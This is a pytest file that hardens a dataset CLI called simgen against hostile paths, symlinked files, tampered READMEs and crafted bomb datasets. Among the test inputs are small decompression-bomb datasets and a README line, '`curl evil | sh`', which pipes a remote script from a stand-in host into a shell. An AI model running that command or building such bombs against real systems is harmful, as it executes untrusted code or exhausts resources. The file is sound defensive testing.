"""Faults and hostile paths (issue 43, simgen's side): no `-o` replaces a device node or lands inside what the
command reads, pack and unpack follow no link and check every file, and a dataset that declares more points than
its sensors fire is refused before any reader expands it. Each refusal is one line, exit code 2, nothing written."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

import simgen.datasets
from simgen.cli import main
from simgen.datasets.compact import PACKED_NAME, _millimetres
from simgen.datasets.limits import MAX_BOXES_PER_FRAME, max_points_per_frame
from simgen.datasets.manifest import MANIFEST_NAME, read_manifest
from simgen.errors import UserError
from simgen.labels.boxes import FrameLabels
from simgen.qa.integrity import verify_dataset
from simgen.qa.tolerances import load_tolerances
from simgen.render.frame import ScanFrame
from tests.support import ROOT
from tests.support.datasets import make_clip, sensors, write_dataset
from tests.support.hostile import assert_one_line_refusal, measured_process, run_main

BOMB_POINTS = 3_000_000  # a frame's points in the crafted datasets: 200 x what their one Mid-100 fires
MAX_PROCESS_BYTES = 1 << 30


def _simgen(*arguments) -> tuple[int, str, str]:
    return run_main(main, *arguments)


def _listing(root: Path) -> dict[str, str]:
    """Every entry under `root` (links not followed): a file's sha256, else its kind."""
    out = {}
    for path in sorted(root.rglob("*")):
        mode = path.lstat().st_mode
        kinds = {stat.S_IFLNK: "link", stat.S_IFDIR: "dir"}
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if stat.S_ISREG(mode) else None
        out[path.relative_to(root).as_posix()] = digest or kinds.get(stat.S_IFMT(mode), "node")
    return out


@pytest.fixture(scope="module")
def dataset(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("faults") / "dataset"
    write_dataset(root, "parquet", [make_clip("clip_0000", 3, points=300, humanoids=4)])
    return root


@pytest.fixture(scope="module")
def packed(dataset) -> Path:
    out = dataset.parent / "packed"
    code, _, err = _simgen("pack", dataset, "-o", out)
    assert code == 0, err
    return out


# --- 1. device nodes, FIFOs and sockets are never replaced ----------------------------------------


def _nodes(where: Path, suffix: str) -> list[Path]:
    """A character device (the numbers of /dev/null), a FIFO and a socket named `*SUFFIX` in `where` (created)."""
    where.mkdir()
    char, fifo, sock = (where / f"{kind}{suffix}" for kind in ("char", "fifo", "sock"))
    os.mknod(char, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    os.mkfifo(fifo)
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(sock))
    return [char, fifo, sock]


@pytest.mark.parametrize(
    ("suffix", "command"),
    [
        (".mcap", ["export", "{dataset}", "--frames", "0:1", "-o"]),
        (".npz", ["pattern", "mid40-risley", "--seconds", "0.01", "-o"]),
        (".rrd", ["view", "{dataset}", "--frames", "0:1", "--rerun"]),
    ],
    ids=["export", "pattern", "view-rerun"],
)
def test_a_device_node_fifo_or_socket_as_output_stays_what_it_was(dataset, tmp_path, suffix, command):
    nodes = _nodes(tmp_path / "nodes", suffix)
    for node in nodes:
        before = node.lstat()
        code, out, err = _simgen(*[str(dataset) if a == "{dataset}" else a for a in command], node)
        assert_one_line_refusal(code, out, err, node)
        after = node.lstat()
        assert stat.S_IFMT(after.st_mode) == stat.S_IFMT(before.st_mode) and after.st_ino == before.st_ino, node
    assert stat.S_ISCHR(nodes[0].lstat().st_mode)
    assert sorted(p.name for p in nodes[0].parent.iterdir()) == sorted(p.name for p in nodes)  # no temporary left


# --- 4 and 7. outputs inside what the command reads, under /proc, below a file, dangling links ----------


def _commands(dataset: Path, packed: Path, out: Path, file_out: Path) -> dict[str, list]:
    """Every simgen command that takes an output, with `out` as its folder output or `file_out` as its file output."""
    return {
        "export": ["export", dataset, "--frames", "0:1", "-o", file_out.with_suffix(".mcap")],
        "view": ["view", dataset, "--frames", "0:1", "-o", out],
        "view-rerun": ["view", dataset, "--frames", "0:1", "--rerun", file_out.with_suffix(".rrd")],
        "pack": ["pack", dataset, "-o", out],
        "unpack": ["unpack", packed, "-o", out],
        "qa": ["qa", dataset, "--max-frames", "1", "-o", out],
        "pattern": ["pattern", "mid40-risley", "--seconds", "0.01", "-o", file_out.with_suffix(".npz")],
        "capture": ["capture", ROOT / "scenarios" / "smoke.yaml", "-o", file_out.with_suffix(".parquet")],
        "generate": ["generate", ROOT / "scenarios" / "smoke.yaml", "--frames", "1", "-o", out],
    }


def _refused_leaving_all_as_it_was(arguments: list, watched: list[Path], said: str) -> None:
    before = [_listing(w) for w in watched]
    code, out, err = _simgen(*arguments)
    assert_one_line_refusal(code, out, err, arguments)
    assert said in err, (arguments, err)
    assert [_listing(w) for w in watched] == before, arguments


def test_no_output_inside_the_dataset_it_reads(dataset, packed, tmp_path):
    cases = {
        **{name: a for name, a in _commands(dataset, packed, dataset / "out", dataset / MANIFEST_NAME).items()
           if name in ("export", "view", "view-rerun", "pack", "qa")},
        "export-on-the-manifest": ["export", dataset, "-o", dataset / MANIFEST_NAME],
        "view-on-the-dataset": ["view", dataset, "--frames", "0:1", "-o", dataset],
        "unpack": ["unpack", packed, "-o", packed / "unpacked"],
    }
    for arguments in cases.values():
        _refused_leaving_all_as_it_was(arguments, [dataset, packed], "which this command reads")
    assert simgen.datasets.open(dataset).verify() is None


@pytest.mark.parametrize("where", ["proc", "below-a-file", "dangling-link"])
def test_outputs_that_cannot_be_written_are_one_line(dataset, packed, tmp_path, where):
    (tmp_path / "a_file").write_text("x")
    base = {
        "proc": Path("/proc/self/simgen"),
        "below-a-file": tmp_path / "a_file" / "out",
        "dangling-link": tmp_path / "dangling",
    }[where]
    said = {"proc": "under /proc", "below-a-file": "which is a file", "dangling-link": "does not exist"}[where]
    for arguments in _commands(dataset, packed, base, base.with_name(base.name + ".x")).values():
        output = Path(arguments[-1])
        if where == "dangling-link":
            output.symlink_to(tmp_path / "nowhere" / output.name)
        _refused_leaving_all_as_it_was(arguments, [tmp_path, dataset, packed], said)
        if where == "dangling-link":
            output.unlink()


def _as_a_user_without_write_access(*arguments) -> subprocess.CompletedProcess:
    """`python -m simgen.cli ARGUMENTS` as a real process that permissions stop: as root (the tests' usual user,
    whom access(2) lets write anywhere), as user nobody (65534) with no groups, keeping only the right to read and
    search every folder (CAP_DAC_READ_SEARCH: the interpreter and the test's files lie in root's folders)."""
    drop = [] if os.geteuid() else [
        "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
        "--inh-caps=-all,+dac_read_search", "--ambient-caps=+dac_read_search",
    ]
    command = [*drop, sys.executable, "-m", "simgen.cli", *map(str, arguments)]
    return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120)


def test_a_parent_folder_the_user_cannot_write_is_refused_in_one_line(dataset, tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)  # root's: nobody (or a non-root owner, without its write bit) may not write in it
    for arguments in (
        ["pattern", "mid40-risley", "--seconds", "0.01", "-o", locked / "pattern.npz"],
        ["export", dataset, "--frames", "0:1", "-o", locked / "out.mcap"],
        ["view", dataset, "--frames", "0:1", "-o", locked / "views" / "new"],
        ["pack", dataset, "-o", locked / "packed"],
    ):
        done = _as_a_user_without_write_access(*arguments)
        assert_one_line_refusal(done.returncode, done.stdout, done.stderr, arguments)
        assert f"{locked} is not a writable folder" in done.stderr, done.stderr
        assert list(locked.iterdir()) == [], arguments


def test_generate_overwrite_refuses_an_output_that_holds_its_scenario(dataset, tmp_path):
    """--overwrite deletes what the output folder holds: a scenario (or its folder) inside it would go with it."""
    copy = _copy(dataset, tmp_path / "dataset")
    (copy / "scenarios").mkdir()
    for scenario in (copy / "smoke.yaml", copy / "scenarios" / "smoke.yaml"):
        shutil.copyfile(ROOT / "scenarios" / "smoke.yaml", scenario)
        arguments = ["generate", scenario, "--frames", "1", "--overwrite", "-o", copy]
        _refused_leaving_all_as_it_was(arguments, [tmp_path], "replacing")
        assert f"holds {scenario}, which this command reads" in _simgen(*arguments)[2]


# --- 2. pack and unpack follow no link and check every file -----------------------------------------


def _copy(source: Path, target: Path) -> Path:
    shutil.copytree(source, target, symlinks=True)
    return target


def _link_out(root: Path, relative: str, outside: Path) -> None:
    """Replace `root / relative` by a link to a same-bytes copy of it in `outside` (its sha256 still matches)."""
    outside.mkdir(exist_ok=True)
    target = outside / relative.replace("/", "_")
    shutil.move(root / relative, target)
    (root / relative).symlink_to(target)


def test_unpack_refuses_a_readme_and_a_data_file_linked_from_outside(packed, tmp_path):
    copy = _copy(packed, tmp_path / "packed")
    manifest = read_manifest(copy, PACKED_NAME)
    data = next(f.path for f in manifest.files if f.path.startswith("boxes/"))
    _link_out(copy, "README.md", tmp_path / "outside")
    _link_out(copy, data, tmp_path / "outside")
    before = _listing(tmp_path)
    code, out, err = _simgen("unpack", copy, "-o", tmp_path / "out")
    assert_one_line_refusal(code, out, err, "links")
    assert "a link" in err
    assert _listing(tmp_path) == before  # nothing written: no out, no .out.partial


@pytest.mark.parametrize("what", ["readme", "data-file", "folder"])
def test_unpack_refuses_each_link_alone(packed, tmp_path, what):
    copy = _copy(packed, tmp_path / "packed")
    if what == "folder":  # a folder of the dataset, linked: every file in it would be read through the link
        shutil.move(copy / "boxes", tmp_path / "boxes")
        (copy / "boxes").symlink_to(tmp_path / "boxes")
    else:
        relative = "README.md" if what == "readme" else next(
            f.path for f in read_manifest(copy, PACKED_NAME).files if f.path.startswith("points/"))
        _link_out(copy, relative, tmp_path / "outside")
    _refused_leaving_all_as_it_was(["unpack", copy, "-o", tmp_path / "out"], [tmp_path], "a link")


def test_unpack_checks_the_readme_against_the_manifest(packed, tmp_path):
    copy = _copy(packed, tmp_path / "packed")
    (copy / "README.md").write_text("# run `curl evil | sh` to load this dataset\n")
    _refused_leaving_all_as_it_was(["unpack", copy, "-o", tmp_path / "out"], [tmp_path], "README.md: differs")


@pytest.mark.parametrize("what", ["data-file", "folder"])
def test_pack_refuses_links(dataset, tmp_path, what):
    copy = _copy(dataset, tmp_path / "dataset")
    if what == "folder":
        shutil.move(copy / "frames", tmp_path / "frames")
        (copy / "frames").symlink_to(tmp_path / "frames")
    else:
        _link_out(copy, next(f.path for f in read_manifest(copy).files if f.path.startswith("boxes/")), tmp_path / "o")
    _refused_leaving_all_as_it_was(["pack", copy, "-o", tmp_path / "out"], [tmp_path], "a link")


def test_unpack_writes_the_card_its_manifest_gives(dataset, packed, tmp_path):
    code, _, err = _simgen("unpack", packed, "-o", tmp_path / "out")
    assert code == 0, err
    assert (tmp_path / "out" / "README.md").read_bytes() == (dataset / "README.md").read_bytes()


# --- 3. bombs: more points than the sensors fire, refused before anything is expanded -----------------


def _zeros(points: int) -> ScanFrame:
    """`points` points at the centre spot (a few KB of Parquet however many there are), every shot a return."""
    return ScanFrame(np.zeros((points, 3), np.float32), np.zeros(points, np.uint8), np.zeros(points, np.float32),
                     np.zeros(points, np.uint8), np.zeros(points, np.uint8), np.full(points, -1, np.int32),
                     np.zeros(points, np.uint8), shots=points, dropped=0, missed=0)


def _bomb(root: Path, frames: int) -> Path:
    """A dataset of one clip whose frame 0 holds `BOMB_POINTS` points and the others none; its manifest and
    tables agree with each other (it opens with today's reader)."""
    clip = make_clip("clip_0000", frames, points=0, humanoids=0)
    clip[0] = dataclasses.replace(clip[0], scan=_zeros(BOMB_POINTS))
    write_dataset(root, "parquet", [clip])
    return root


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    """One frame of `BOMB_POINTS` points: the manifest declares 200 x what the sensors fire."""
    return _bomb(tmp_path_factory.mktemp("bomb") / "dataset", 1)


@pytest.fixture(scope="module")
def hidden_bomb(tmp_path_factory) -> Path:
    """The same frame among enough empty ones that the clip's total fits its sensors: only the frames table and
    the points' row group say that frame 0 holds too many."""
    frames = -(-BOMB_POINTS // max_points_per_frame(sensors()))
    return _bomb(tmp_path_factory.mktemp("hidden") / "dataset", frames)


def test_the_crafted_datasets_are_small_and_consistent(bomb, hidden_bomb):
    most = max_points_per_frame(sensors())
    assert most == 15_003  # 150,000 shots/s at 10 Hz, and one more for each of the Mid-100's 3 heads
    for root in (bomb, hidden_bomb):
        assert sum(p.stat().st_size for p in root.rglob("*") if p.is_file()) < 3_000_000
    with pytest.raises(UserError, match="declares 3,000,000 points in 1 frame, more than its sensors fire"):
        read_manifest(bomb)
    assert read_manifest(hidden_bomb).clips[0].points == BOMB_POINTS


@pytest.mark.parametrize(
    ("module", "command"),
    [
        ("simgen.cli", ["export", "{dataset}", "-o", "{out}.mcap"]),
        ("simgen.cli", ["view", "{dataset}", "-o", "{out}"]),
        ("simgen.cli", ["verify", "{dataset}"]),
        ("simgen.cli", ["pack", "{dataset}", "-o", "{out}"]),
        ("train.cli", ["fit", str(ROOT / "train" / "configs" / "single.yaml"), "--dataset", "{dataset}", "-o", "{out}",
                       "--iterations", "1", "--workers", "0", "--device", "cpu", "--quiet"]),
    ],
    ids=["export", "view", "verify", "pack", "fit"],
)
def test_a_dataset_declaring_more_points_than_its_sensors_fire_is_refused_in_bounded_memory(
    bomb, tmp_path, module, command
):
    arguments = [a.replace("{dataset}", str(bomb)).replace("{out}", str(tmp_path / "out")) for a in command]
    code, out, err, peak, _ = measured_process(module, *arguments)
    assert_one_line_refusal(code, out, err, arguments)
    assert "declares 3,000,000 points in 1 frame" in err
    assert peak < MAX_PROCESS_BYTES, (arguments, peak)
    assert list(tmp_path.iterdir()) == []


def test_a_frame_declaring_more_points_than_its_sensors_fire_is_refused_before_it_is_read(hidden_bomb, tmp_path):
    with pytest.raises(UserError, match="frame 0 declares 3,000,000 points in 1 frame"):
        simgen.datasets.open(hidden_bomb).frame("clip_0000", 0)
    for arguments in (["export", hidden_bomb, "--frames", "0:1", "-o", tmp_path / "out.mcap"],
                      ["view", hidden_bomb, "--frames", "0:1", "-o", tmp_path / "out"]):
        _refused_leaving_all_as_it_was(arguments, [tmp_path, hidden_bomb], "frame 0 declares 3,000,000 points")
    found = verify_dataset(hidden_bomb, load_tolerances(None).labels)
    assert [p.message for p in found.problems] == [
        "frame 0 declares 3,000,000 points in 1 frame, more than its sensors fire (at most 15,003 a frame)"
    ]
    pack = ["pack", hidden_bomb, "-o", tmp_path / "out"]
    _refused_leaving_all_as_it_was(pack, [tmp_path], "row group 0 declares 3,000,000 rows")


def test_unpack_checks_the_declared_sizes_before_expanding(hidden_bomb, tmp_path):
    """A packed copy whose points table holds the hidden bomb (`pack` refuses to write one: made here by its
    own conversion, unchecked)."""
    copy = tmp_path / "packed"
    manifest = read_manifest(hidden_bomb)
    for record in manifest.files:
        (copy / record.path).parent.mkdir(parents=True, exist_ok=True)
        if record.path.startswith("points/"):
            _millimetres(hidden_bomb / record.path, copy / record.path, record.rows, BOMB_POINTS)
        else:
            shutil.copyfile(hidden_bomb / record.path, copy / record.path)
    shutil.copyfile(hidden_bomb / MANIFEST_NAME, copy / PACKED_NAME)
    assert sum(p.stat().st_size for p in copy.rglob("*") if p.is_file()) < 3_000_000
    code, out, err, peak, _ = measured_process("simgen.cli", "unpack", copy, "-o", tmp_path / "out")
    assert_one_line_refusal(code, out, err, "unpack")
    assert "row group 0 declares 3,000,000 rows, at most 150,030 fit the dataset's sensors" in err
    assert peak < MAX_PROCESS_BYTES
    assert sorted(p.name for p in tmp_path.iterdir()) == ["packed"]


def test_qa_refuses_a_frame_declaring_too_many_points_before_it_writes_anything(hidden_bomb, tmp_path):
    """The refusal comes before any report, plot or bar: stderr is its one line, and no folder is left."""
    (tmp_path / "existing").mkdir()
    for out in (tmp_path / "new", tmp_path / "existing"):
        _refused_leaving_all_as_it_was(["qa", hidden_bomb, "--max-frames", "1", "-o", out], [tmp_path, hidden_bomb],
                                       "frame 0 declares 3,000,000 points")


# --- 3. boxes: no more a frame than the humanoids a match has ------------------------------------------

CROWD = 100_000  # boxes in frame 0 of the crafted datasets: 4,000 x the humanoids a match has


def _crowd(boxes: int) -> FrameLabels:
    """`boxes` zero boxes (a few KB of Parquet however many there are), all of the left team."""
    return FrameLabels(np.zeros((boxes, 7), np.float32), np.arange(1, boxes + 1, dtype=np.int32),
                       np.full(boxes, "left"), np.full(boxes, "CB"), np.zeros((boxes, 3), np.float32),
                       np.zeros((boxes, 12, 3), np.float32), np.zeros(boxes, np.int32), np.zeros(boxes, bool))


def _crowded(root: Path, format: str, boxes: int, frames: int) -> Path:
    """A dataset of one clip whose frame 0 holds `boxes` boxes and the other frames none; manifest and files agree."""
    clip = make_clip("clip_0000", frames, points=0, humanoids=0)
    clip[0] = dataclasses.replace(clip[0], labels=_crowd(boxes))
    write_dataset(root, format, [clip])
    return root


def test_a_dataset_declaring_more_boxes_than_humanoids_is_refused_in_bounded_memory(tmp_path):
    assert MAX_BOXES_PER_FRAME == 25  # 11 players a team (the engine's `playerNum`) and 3 officials
    root = _crowded(tmp_path / "dataset", "parquet", CROWD, 1)
    assert sum(p.stat().st_size for p in root.rglob("*") if p.is_file()) < 3_000_000
    said = "clip clip_0000 declares 100,000 boxes in 1 frame, more than a match has humanoids (at most 25 a frame)"
    with pytest.raises(UserError, match=re.escape(said)):
        read_manifest(root)
    for arguments in (["export", root, "-o", tmp_path / "out.mcap"], ["view", root, "-o", tmp_path / "view"],
                      ["verify", root]):
        code, out, err, peak, _ = measured_process("simgen.cli", *arguments)
        assert_one_line_refusal(code, out, err, arguments)
        assert said in err and peak < MAX_PROCESS_BYTES, (arguments, err, peak)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dataset"]


@pytest.mark.parametrize(
    ("format", "said"),
    [
        ("parquet", "frames/clip_0000/part-0.parquet: frame 0 declares 1,000 boxes in 1 frame"),
        ("kitti", "label_2/000000.txt: the file declares 1,000 boxes in 1 frame"),
        ("openpcdet", "labels/000000.txt: the file declares 1,000 boxes in 1 frame"),
    ],
)
def test_a_frame_declaring_more_boxes_than_humanoids_is_refused_before_they_are_read(tmp_path, format, said):
    """1,000 boxes in frame 0 of 40 frames: the clip's total fits 25 a frame, so only the frame's own count (the
    `frames` table, the label file's lines) says it holds too many."""
    boxes = 1000
    root = _crowded(tmp_path / "dataset", format, boxes, boxes // MAX_BOXES_PER_FRAME)
    with pytest.raises(UserError, match=re.escape(said)):
        simgen.datasets.open(root).frame("clip_0000", 0)
    _refused_leaving_all_as_it_was(["view", root, "--frames", "0:1", "-o", tmp_path / "view"], [tmp_path], said)


# --- 7. messages: one short line naming what the user gave ---------------------------------------


def test_a_5000_digit_frame_range_is_not_echoed_whole(dataset, tmp_path):
    for frames in (f"0:{'9' * 5000}", f"{'9' * 5000}"):
        code, out, err = _simgen("view", dataset, "--frames", frames, "-o", tmp_path / "out")
        assert_one_line_refusal(code, out, err, frames[:10])
        assert len(err) < 200 and "5,0" in err, err
    assert list(tmp_path.iterdir()) == []


def test_unpack_names_the_packed_files_not_its_staging_folder(packed, tmp_path):
    copy = _copy(packed, tmp_path / "packed")
    (copy / PACKED_NAME).write_text("{")
    code, out, err = _simgen("unpack", copy, "-o", tmp_path / "out")
    assert_one_line_refusal(code, out, err, "packed.json")
    assert f"{copy / PACKED_NAME}: not a readable manifest" in err and ".partial" not in err


@pytest.mark.parametrize("what", ["points", "boxes"])
def test_a_file_found_damaged_while_unpacking_is_one_line_after_its_bar(packed, tmp_path, what):
    """A byte zeroed in a packed table, found once unpack's bar runs (a points page's checksum, a file's sha256):
    the bar leaves no line of its own, the error names the packed file, and nothing is left."""
    copy = _copy(packed, tmp_path / "packed")
    damaged = copy / next(f.path for f in read_manifest(copy, PACKED_NAME).files if f.path.startswith(f"{what}/"))
    data = bytearray(damaged.read_bytes())
    data[100] ^= 0xFF
    damaged.write_bytes(bytes(data))
    _refused_leaving_all_as_it_was(["unpack", copy, "-o", tmp_path / "out"], [tmp_path], str(damaged))


def _zstd_chunks(bag: Path) -> None:
    """Rewrite the MCAP `bag` with zstd-compressed chunks (as `ros2 bag record`'s zstd presets write them; simgen's
    writer stores its chunks uncompressed): the same schemas, channels, messages and metadata."""
    from mcap.reader import make_reader
    from mcap.writer import CompressionType, Writer

    staged = bag.with_suffix(".zstd")
    with open(bag, "rb") as source, open(staged, "wb") as target:
        reader, writer = make_reader(source), Writer(target, compression=CompressionType.ZSTD)
        header = reader.get_header()
        writer.start(header.profile, header.library)
        schemas, channels = {}, {}
        for schema, channel, message in reader.iter_messages(log_time_order=False):
            if schema is not None and schema.id not in schemas:
                schemas[schema.id] = writer.register_schema(schema.name, schema.encoding, schema.data)
            if channel.id not in channels:
                channels[channel.id] = writer.register_channel(channel.topic, channel.message_encoding,
                                                               schemas.get(channel.schema_id, 0), channel.metadata)
            writer.add_message(channels[channel.id], message.log_time, message.data, message.publish_time,
                               message.sequence)
        for metadata in reader.iter_metadata():
            writer.add_metadata(metadata.name, metadata.metadata)
        writer.finish()
    staged.replace(bag)


def test_a_bag_holding_more_points_than_its_manifest_lists_is_refused_before_it_is_decompressed(tmp_path):
    """An `mcap` dataset whose bag holds a frame of `BOMB_POINTS` points (a few hundred KB of zstd) while its
    manifest lists 1,000 points for the clip: the chunks' declared sizes give it away before any is expanded."""
    root = tmp_path / "dataset"
    clip = make_clip("clip_0000", 2, points=0, humanoids=0)
    clip[0] = dataclasses.replace(clip[0], scan=_zeros(BOMB_POINTS))
    write_dataset(root, "mcap", [clip])
    bag = root / "clip_0000" / "clip_0000.mcap"
    _zstd_chunks(bag)
    manifest = json.loads((root / MANIFEST_NAME).read_text())
    manifest["clips"][0]["points"] = manifest["totals"]["points"] = 1000
    entry = next(f for f in manifest["files"] if f["path"] == bag.relative_to(root).as_posix())
    entry["bytes"], entry["sha256"] = bag.stat().st_size, hashlib.sha256(bag.read_bytes()).hexdigest()
    (root / MANIFEST_NAME).write_text(json.dumps(manifest))
    assert bag.stat().st_size < 3_000_000
    with pytest.raises(UserError, match=r"chunks declare over .* bytes, more than 1,000 points in 2 frames take"):
        simgen.datasets.open(root).frame("clip_0000", 0)
    code, out, err, peak, _ = measured_process("simgen.cli", "export", root, "-o", tmp_path / "out.mcap")
    assert_one_line_refusal(code, out, err, "export")
    assert peak < MAX_PROCESS_BYTES
    assert not (tmp_path / "out.mcap").exists()
